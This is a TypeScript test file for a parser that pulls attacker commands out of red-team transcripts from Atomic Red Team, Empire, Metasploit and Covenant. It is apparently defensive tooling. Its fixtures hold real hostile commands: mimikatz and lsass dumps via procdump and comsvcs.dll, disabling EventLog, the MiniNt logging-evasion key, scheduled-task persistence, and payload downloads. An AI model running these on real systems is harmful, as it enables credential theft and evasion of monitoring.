import { describe, expect, it } from 'vitest';
import { extractAttackerCommands } from './attacker-commands.ts';

const texts = (view: string, extra: string[] = []) =>
  extractAttackerCommands(view, extra).map((command) => [command.kind, command.text]);

describe('extractAttackerCommands', () => {
  it('takes every line of a prompt-less Atomic Red Team list that starts with a program', () => {
    const view = [
      'bitsadmin.exe /transfer /Download /priority Foreground https://example.org/x.ps1 %temp%\\x.ps1',
      '',
      "DISPLAY: '/Download' TYPE: DOWNLOAD STATE: TRANSFERRED",
      'Transfer complete.',
      'Invoke-WebRequest "https://example.org/x.chm" -OutFile C:\\ProgramData\\x.chm',
      '$Hso = New-Object Net.HttpListener',
    ].join('\n');

    expect(texts(view)).toEqual([
      [
        'process',
        'bitsadmin.exe /transfer /Download /priority Foreground https://example.org/x.ps1 %temp%\\x.ps1',
      ],
      ['script', 'Invoke-WebRequest "https://example.org/x.chm" -OutFile C:\\ProgramData\\x.chm'],
      ['script', '$Hso = New-Object Net.HttpListener'],
    ]);
  });

  it('keeps Empire shell commands and option values, and drops console chatter', () => {
    const view = [
      '(Empire: stager/multi/launcher) > agents',
      '[*] Active agents:',
      'Name     La Internal IP     Machine Name',
      '----     -- -----------     ------------',
      '(Empire: agents) > interact 1EHYPBVC',
      '(Empire: 1EHYPBVC) > shell net localgroup Administrators',
      '(Empire: 1EHYPBVC) > usemodule persistence/userland/schtasks',
      '(Empire: powershell/persistence/userland/schtasks) > set Listener http',
      '(Empire: powershell/persistence/userland/schtasks) > set TaskName MordorSchtask',
      '(Empire: powershell/persistence/userland/schtasks) > execute',
      'mimikatz(powershell) # sekurlsa::logonpasswords',
      'mimikatz(powershell) # exit',
    ].join('\n');

    expect(texts(view)).toEqual([
      ['process', 'net localgroup Administrators'],
      ['hint', 'persistence userland schtasks'],
      ['hint', 'MordorSchtask'],
      ['script', 'sekurlsa::logonpasswords'],
    ]);
  });

  it('reads meterpreter execute, powershell_execute and reg commands, not Metasploit setup', () => {
    const view = [
      'msf6 exploit(multi/handler) > set lhost 10.0.5.13',
      'lhost => 10.0.5.13',
      '[*] Meterpreter session 1 opened (10.0.5.13:8080 -> 10.0.5.5:7711)',
      "meterpreter > execute -f 'C:\\\\Program Files\\\\procdump.exe' -H -a '-accepteula -ma lsass.exe C:\\Windows\\Temp\\d.dmp'",
      'meterpreter > powershell_execute "Set-Service -Name EventLog -StartUpType Disabled"',
      "meterpreter > reg createkey -k 'HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Control\\MiniNt'",
      'meterpreter > shell',
      'Process 7588 created.',
      'Channel 1 created.',
      'C:\\Users\\bob\\Downloads>whoami & whoami /groups',
      'pandalab\\bob',
      'C:\\Users\\bob\\Downloads>exit',
    ].join('\n');

    expect(texts(view)).toEqual([
      [
        'process',
        'C:\\Program Files\\procdump.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\d.dmp',
      ],
      ['script', 'Set-Service -Name EventLog -StartUpType Disabled'],
      ['hint', 'HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Control\\MiniNt'],
      ['process', 'whoami & whoami /groups'],
    ]);
  });

  it('unwraps Covenant ShellCmd and SharpWMI tasks, with or without a prompt', () => {
    const view = [
      '(wardog) > ShellCmd /shellcommand:"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\InstallUtil.exe /u c:\\ProgramData\\g.dll"',
      'ShellCmd /shellcommand:"wmic /node:WORKSTATION6 os get"',
      '(wardog) > SharpWMI /command:"action=exec computername=WS6 command=\\"C:\\\\Windows\\\\g.exe\\""',
    ].join('\n');

    expect(texts(view)).toEqual([
      [
        'process',
        'C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\InstallUtil.exe /u c:\\ProgramData\\g.dll',
      ],
      ['process', 'wmic /node:WORKSTATION6 os get'],
      ['process', 'C:\\Windows\\g.exe'],
    ]);
  });

  it('ignores bare output lines once the transcript has prompts', () => {
    const view = [
      'C:\\Users\\bob>tasklist /svc',
      'smss.exe                       352 N/A',
      'csrss.exe                      444 N/A',
    ].join('\n');

    expect(texts(view)).toEqual([['process', 'tasklist /svc']]);
  });

  it('reads tool scripts as extra commands and skips links', () => {
    expect(
      texts('', [
        'https://github.com/redcanaryco/atomic-red-team/blob/master/atomics/T1197/T1197.md',
        'powershell_execute "C:\\Windows\\System32\\rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 1 x.dmp full"',
      ]),
    ).toEqual([
      [
        'process',
        'C:\\Windows\\System32\\rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 1 x.dmp full',
      ],
    ]);
  });

  it('returns nothing for prose and an absent view', () => {
    expect(texts('RDP to victim\nOpen Windows Task Manager as Administrator')).toEqual([]);
    expect(extractAttackerCommands(undefined)).toEqual([]);
  });

  it('keeps each command once and remembers its transcript line', () => {
    const commands = extractAttackerCommands('PS > whoami\nPS > whoami');

    expect(commands).toEqual([{ text: 'whoami', kind: 'process', line: 'PS > whoami' }]);
  });
});
